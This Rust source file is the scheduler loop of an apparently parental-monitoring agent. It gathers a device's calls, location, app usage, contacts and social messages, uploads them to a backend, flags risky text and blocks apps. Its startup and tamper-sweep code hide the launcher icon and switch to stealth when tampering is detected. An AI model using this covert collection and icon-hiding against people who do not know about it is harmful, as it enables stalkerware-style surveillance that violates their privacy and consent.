//! The agent runtime: a single scheduler loop driving collectors, the
//! policy tick, tamper sweeps and sync cycles on their own periods.
//!
//! Everything observable goes through one path: poll, durably enqueue,
//! then acknowledge the collector marker. Urgent records additionally get
//! a best-effort immediate send; the periodic upload cycle covers them if
//! that fails.

use crate::analyzer::ContentAnalyzer;
use crate::capabilities::DeviceCapabilities;
use crate::clock::SharedClock;
use crate::collector::types::{AppId, ControlEvent, RecordPayload};
use crate::collector::{
    AppUsageCollector, CallCollector, Collector, ContactCollector, LocationCollector,
    SocialCollector,
};
use crate::config::{AgentConfig, ConfigError};
use crate::policy::{Decision, EvalContext, PolicyEngine};
use crate::queue::LocalQueue;
use crate::state::{lock_state, SharedState};
use crate::stats::{AgentStats, SharedStats};
use crate::store::{keys, Store, StoreError};
use crate::sync::{Backend, Backoff, SyncError, SyncManager, SyncTask, SyncWorker};
use crate::tamper::TamperDetector;
use chrono::Datelike;
use std::collections::BTreeSet;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tracing::{debug, error, info, warn};

/// Fatal agent errors. Only startup can fail; the running loop degrades
/// and retries instead of exiting.
#[derive(Debug)]
pub enum AgentError {
    Config(ConfigError),
    Store(StoreError),
    Sync(SyncError),
}

impl std::fmt::Display for AgentError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            AgentError::Config(e) => write!(f, "{e}"),
            AgentError::Store(e) => write!(f, "{e}"),
            AgentError::Sync(e) => write!(f, "{e}"),
        }
    }
}

impl std::error::Error for AgentError {}

impl From<ConfigError> for AgentError {
    fn from(e: ConfigError) -> Self {
        AgentError::Config(e)
    }
}

impl From<StoreError> for AgentError {
    fn from(e: StoreError) -> Self {
        AgentError::Store(e)
    }
}

impl From<SyncError> for AgentError {
    fn from(e: SyncError) -> Self {
        AgentError::Sync(e)
    }
}

/// One collector plus its scheduling state.
struct ScheduledCollector {
    collector: Box<dyn Collector>,
    last_run: Option<Instant>,
}

impl ScheduledCollector {
    fn due(&self, now: Instant) -> bool {
        self.last_run
            .map_or(true, |last| now.duration_since(last) >= self.collector.interval())
    }
}

/// The assembled agent.
pub struct Agent {
    config: AgentConfig,
    store: Store,
    queue: LocalQueue,
    state: SharedState,
    clock: SharedClock,
    caps: Arc<dyn DeviceCapabilities>,
    stats: SharedStats,
    sync: Arc<SyncManager>,
    /// Present while the scheduler loop is running; owns the network calls.
    worker: Option<SyncWorker>,
    collectors: Vec<ScheduledCollector>,
    analyzer: ContentAnalyzer,
    engine: PolicyEngine,
    tamper: TamperDetector,
    /// Apps currently held in a blocked state, for edge-triggered control
    /// events.
    blocked_now: BTreeSet<AppId>,
}

impl Agent {
    /// Assemble the agent from configuration and injected platform pieces.
    pub fn new(
        config: AgentConfig,
        store: Store,
        backend: Arc<dyn Backend>,
        caps: Arc<dyn DeviceCapabilities>,
        clock: SharedClock,
    ) -> Result<Self, AgentError> {
        let queue = LocalQueue::new(store.clone());
        let state = crate::state::AgentState::load(&store, clock.today())?.into_shared();
        let stats: SharedStats = Arc::new(AgentStats::with_persistence(config.stats_path()));

        let backoff = Backoff::new(
            chrono::Duration::seconds(config.backoff_base_secs as i64),
            chrono::Duration::seconds(config.backoff_cap_secs as i64),
        );
        let sync = Arc::new(SyncManager::new(
            backend,
            store.clone(),
            queue.clone(),
            state.clone(),
            clock.clone(),
            caps.clone(),
            stats.clone(),
            backoff,
        ));

        let intervals = &config.intervals;
        let collectors: Vec<Box<dyn Collector>> = vec![
            Box::new(CallCollector::new(
                store.clone(),
                Duration::from_secs(intervals.calls_secs),
            )),
            Box::new(LocationCollector::new(Duration::from_secs(
                intervals.location_secs,
            ))),
            Box::new(AppUsageCollector::new(
                store.clone(),
                Duration::from_secs(intervals.apps_secs),
            )),
            Box::new(ContactCollector::new(
                store.clone(),
                Duration::from_secs(intervals.contacts_secs),
            )),
            Box::new(SocialCollector::new(Duration::from_secs(
                intervals.social_flush_secs,
            ))),
        ];
        let collectors = collectors
            .into_iter()
            .map(|collector| ScheduledCollector {
                collector,
                last_run: None,
            })
            .collect();

        let analyzer = if config.extra_risk_terms.is_empty() {
            ContentAnalyzer::new()
        } else {
            let mut analyzer = ContentAnalyzer::new();
            analyzer.add_risk_terms(&config.extra_risk_terms);
            analyzer
        };

        let engine = PolicyEngine {
            fail_open: config.fail_open,
            gap_threshold: chrono::Duration::seconds(config.usage_gap_threshold_secs as i64),
        };
        let tamper = TamperDetector::new(
            config.recovery,
            Duration::from_secs(intervals.tamper_normal_secs),
            Duration::from_secs(intervals.tamper_heightened_secs),
        );

        Ok(Self {
            config,
            store,
            queue,
            state,
            clock,
            caps,
            stats,
            sync,
            worker: None,
            collectors,
            analyzer,
            engine,
            tamper,
            blocked_now: BTreeSet::new(),
        })
    }

    pub fn stats(&self) -> SharedStats {
        self.stats.clone()
    }

    /// Register the device if needed and apply startup stealth.
    pub fn startup(&mut self) -> Result<String, AgentError> {
        let child_id = self.sync.ensure_registered()?;

        let stealth = self.config.stealth || lock_state(&self.state).stealth;
        if stealth {
            if let Err(e) = self.caps.set_icon_hidden(true) {
                warn!(error = %e, "could not hide launcher icon");
            } else {
                let mut state = lock_state(&self.state);
                state.stealth = true;
                state.persist_stealth(&self.store)?;
            }
        }

        // Fetch the current policy before the first tick; offline startup
        // keeps the persisted one.
        match self.sync.run_pull_cycle() {
            Ok(policy) => {
                info!(
                    blocked_apps = policy.blocked_apps.len(),
                    time_windows = policy.time_windows.len(),
                    "policy loaded"
                );
            }
            Err(e) => {
                warn!(error = %e, "initial policy fetch failed, using persisted policy");
            }
        }

        Ok(child_id)
    }

    /// Run the scheduler loop until `running` is cleared.
    ///
    /// All network round trips go to the sync worker thread; a slow or
    /// timed-out request never delays the policy tick or the collectors.
    pub fn run(&mut self, running: Arc<AtomicBool>) {
        if self.worker.is_none() {
            self.worker = Some(SyncWorker::spawn(self.sync.clone()));
        }
        let mut last_policy_tick = Instant::now();
        let mut last_tamper_sweep: Option<Instant> = None;
        let mut last_upload: Option<Instant> = None;
        let mut last_pull = Instant::now();
        let mut last_heartbeat: Option<Instant> = None;

        let policy_period = Duration::from_secs(self.config.intervals.policy_tick_secs);
        let upload_period = Duration::from_secs(self.config.intervals.sync_secs);
        let pull_period = Duration::from_secs(self.config.intervals.pull_secs);
        let heartbeat_period = Duration::from_secs(self.config.intervals.heartbeat_secs);

        info!("agent loop started");
        while running.load(Ordering::SeqCst) {
            let tick = Instant::now();

            for idx in 0..self.collectors.len() {
                if self.collectors[idx].due(tick) {
                    self.collectors[idx].last_run = Some(tick);
                    self.run_collector(idx);
                }
            }

            if tick.duration_since(last_policy_tick) >= policy_period {
                last_policy_tick = tick;
                self.policy_tick();
            }

            if last_tamper_sweep
                .map_or(true, |last| tick.duration_since(last) >= self.tamper.check_interval())
            {
                last_tamper_sweep = Some(tick);
                self.tamper_sweep();
            }

            if last_upload.map_or(true, |last| tick.duration_since(last) >= upload_period) {
                last_upload = Some(tick);
                self.submit(SyncTask::Upload);
            }

            if tick.duration_since(last_pull) >= pull_period {
                last_pull = tick;
                self.submit(SyncTask::Pull);
            }

            if last_heartbeat.map_or(true, |last| tick.duration_since(last) >= heartbeat_period) {
                last_heartbeat = Some(tick);
                self.submit(SyncTask::Heartbeat);
            }

            std::thread::sleep(Duration::from_millis(200));
        }
        info!("agent loop stopped");
    }

    /// Flush and persist on the way out. Joining the worker drains its
    /// pending tasks and runs the final upload cycle.
    pub fn shutdown(&mut self) {
        match self.worker.take() {
            Some(worker) => worker.join(),
            None => {
                if let Err(e) = self.sync.run_upload_cycle() {
                    warn!(error = %e, "final upload failed, records remain queued");
                }
            }
        }
        {
            let state = lock_state(&self.state);
            if let Err(e) = state.persist_usage(&self.store) {
                warn!(error = %e, "could not persist usage timer");
            }
        }
        if let Err(e) = self.stats.save() {
            warn!(error = %e, "could not save session stats");
        }
    }

    /// Hand a task to the sync worker; before the loop starts (and after
    /// shutdown) there is no worker and the task runs inline.
    fn submit(&self, task: SyncTask) {
        match (&self.worker, task) {
            (Some(worker), task) => worker.submit(task),
            (None, SyncTask::Urgent { queue_key, record }) => {
                self.sync.send_urgent(&queue_key, &record)
            }
            (None, SyncTask::Upload) => {
                if let Err(e) = self.sync.run_upload_cycle() {
                    warn!(error = %e, "upload cycle failed");
                }
            }
            (None, SyncTask::Pull) => {
                if let Err(e) = self.sync.run_pull_cycle() {
                    warn!(error = %e, "pull cycle failed");
                }
            }
            (None, SyncTask::Heartbeat) => {
                if let Err(e) = self.sync.heartbeat() {
                    debug!(error = %e, "heartbeat failed");
                }
            }
            (None, SyncTask::Shutdown) => {}
        }
    }

    /// One collector cycle: poll, enqueue everything durably, then advance
    /// the marker. Urgent records also get an immediate send attempt.
    fn run_collector(&mut self, idx: usize) {
        let now = self.clock.now();
        let name = self.collectors[idx].collector.name();
        let records = match self.collectors[idx].collector.poll(self.caps.as_ref(), now) {
            Ok(records) => records,
            Err(crate::collector::CollectError::PermissionDenied) => {
                debug!(collector = name, "permission not granted, skipping cycle");
                return;
            }
            Err(e) => {
                warn!(collector = name, error = %e, "collector poll failed");
                return;
            }
        };
        if records.is_empty() {
            return;
        }

        let mut enqueued = Vec::with_capacity(records.len());
        for record in records {
            match self.queue.enqueue(record.clone(), now) {
                Ok(key) => {
                    if record.kind().is_urgent() {
                        self.submit(SyncTask::Urgent {
                            queue_key: key,
                            record: record.clone(),
                        });
                    }
                    if let RecordPayload::Text(ref text) = record.payload {
                        self.analyze_text(text);
                    }
                    enqueued.push(record);
                }
                Err(e) => {
                    // Not enqueued, not acknowledged: the next poll re-emits it.
                    error!(collector = name, error = %e, "failed to enqueue record");
                }
            }
        }
        self.stats.record_collected(enqueued.len() as u64);
        debug!(collector = name, count = enqueued.len(), "records queued");

        if let Err(e) = self.collectors[idx].collector.acknowledge(&enqueued) {
            warn!(collector = name, error = %e, "marker update failed, duplicates possible");
        }
    }

    /// Run the content analyzer over one captured text; a finding becomes
    /// an alert record which is queued and sent urgently.
    fn analyze_text(&mut self, text: &crate::collector::types::CapturedText) {
        let now = self.clock.now();
        let Some(alert) = self.analyzer.alert_for(text, now) else {
            return;
        };
        info!(
            severity = ?alert.severity,
            source = %text.source_app,
            "content alert raised"
        );
        let record = crate::collector::types::ActivityRecord::new(
            RecordPayload::Alert(alert),
            now,
        )
        .with_source(text.source_app.clone());
        match self.queue.enqueue(record.clone(), now) {
            Ok(key) => {
                self.stats.record_alert();
                self.submit(SyncTask::Urgent {
                    queue_key: key,
                    record,
                });
            }
            Err(e) => error!(error = %e, "failed to enqueue alert"),
        }
    }

    /// Evaluate policy for the current foreground app and emit control
    /// events on block transitions.
    fn policy_tick(&mut self) {
        let foreground = match self.caps.foreground_app() {
            Ok(app) => app,
            Err(e) => {
                debug!(error = %e, "foreground app unavailable");
                None
            }
        };
        let now = self.clock.now();
        let today = self.clock.today();
        let ctx = EvalContext {
            now,
            today,
            minute_of_day: self.clock.minute_of_day(),
            weekday: today.weekday().num_days_from_monday() as u8,
            foreground: foreground.clone(),
        };

        let decision = {
            let mut guard = lock_state(&self.state);
            let state = &mut *guard;
            let decision = self.engine.decide(&state.policy, &mut state.usage, &ctx);
            if let Err(e) = state.persist_usage(&self.store) {
                warn!(error = %e, "could not persist usage timer");
            }
            decision
        };

        let Some(app) = foreground else { return };
        match decision {
            Decision::Block(reason) => {
                if self.blocked_now.insert(app.clone()) {
                    info!(app = %app, reason = reason.as_str(), "blocking app");
                    let record = crate::collector::types::ActivityRecord::new(
                        RecordPayload::Control(ControlEvent {
                            app: app.clone(),
                            reason: reason.as_str().to_string(),
                            occurred_at: now,
                        }),
                        now,
                    );
                    if let Err(e) = self.queue.enqueue(record, now) {
                        error!(error = %e, "failed to enqueue control event");
                    }
                }
            }
            Decision::Allow => {
                if self.blocked_now.remove(&app) {
                    debug!(app = %app, "app unblocked");
                }
            }
        }
    }

    /// One tamper sweep: queue every event, send every alert urgently.
    fn tamper_sweep(&mut self) {
        let now = self.clock.now();
        let outcome = self.tamper.sweep(self.caps.as_ref(), now);

        for event in outcome.events {
            self.stats.record_tamper_event();
            let record = crate::collector::types::ActivityRecord::new(
                RecordPayload::Tamper(event),
                now,
            );
            match self.queue.enqueue(record.clone(), now) {
                Ok(key) => self.submit(SyncTask::Urgent {
                    queue_key: key,
                    record,
                }),
                Err(e) => error!(error = %e, "failed to enqueue tamper event"),
            }
        }
        for alert in outcome.alerts {
            self.stats.record_alert();
            let record = crate::collector::types::ActivityRecord::new(
                RecordPayload::Alert(alert),
                now,
            );
            match self.queue.enqueue(record.clone(), now) {
                Ok(key) => self.submit(SyncTask::Urgent {
                    queue_key: key,
                    record,
                }),
                Err(e) => error!(error = %e, "failed to enqueue tamper alert"),
            }
        }

        // Keep persisted stealth in step with escalation-driven icon hiding.
        let mut state = lock_state(&self.state);
        if self.tamper.state() == crate::tamper::MonitoringState::Heightened && !state.stealth {
            state.stealth = true;
            if let Err(e) = state.persist_stealth(&self.store) {
                warn!(error = %e, "could not persist stealth flag");
            }
        }
    }

    /// Current queue depth, for status reporting.
    pub fn queue_len(&self) -> Result<u64, StoreError> {
        self.queue.len()
    }
}

/// Read-only status summary assembled from the persisted store, for the
/// `status` subcommand running outside the agent process.
pub fn status_report(store: &Store) -> Result<StatusReport, StoreError> {
    Ok(StatusReport {
        registered: store.get::<bool>(keys::SETUP_COMPLETE)?.unwrap_or(false),
        child_id: store.get(keys::CHILD_ID)?,
        device_id: store.get(keys::DEVICE_ID)?,
        stealth: store.get::<bool>(keys::STEALTH_ENABLED)?.unwrap_or(false),
        last_heartbeat_at: store.get(keys::LAST_HEARTBEAT_AT)?,
        queued_records: store.count_prefix(keys::QUEUE_PREFIX)?,
    })
}

#[derive(Debug)]
pub struct StatusReport {
    pub registered: bool,
    pub child_id: Option<String>,
    pub device_id: Option<String>,
    pub stealth: bool,
    pub last_heartbeat_at: Option<chrono::DateTime<chrono::Utc>>,
    pub queued_records: u64,
}
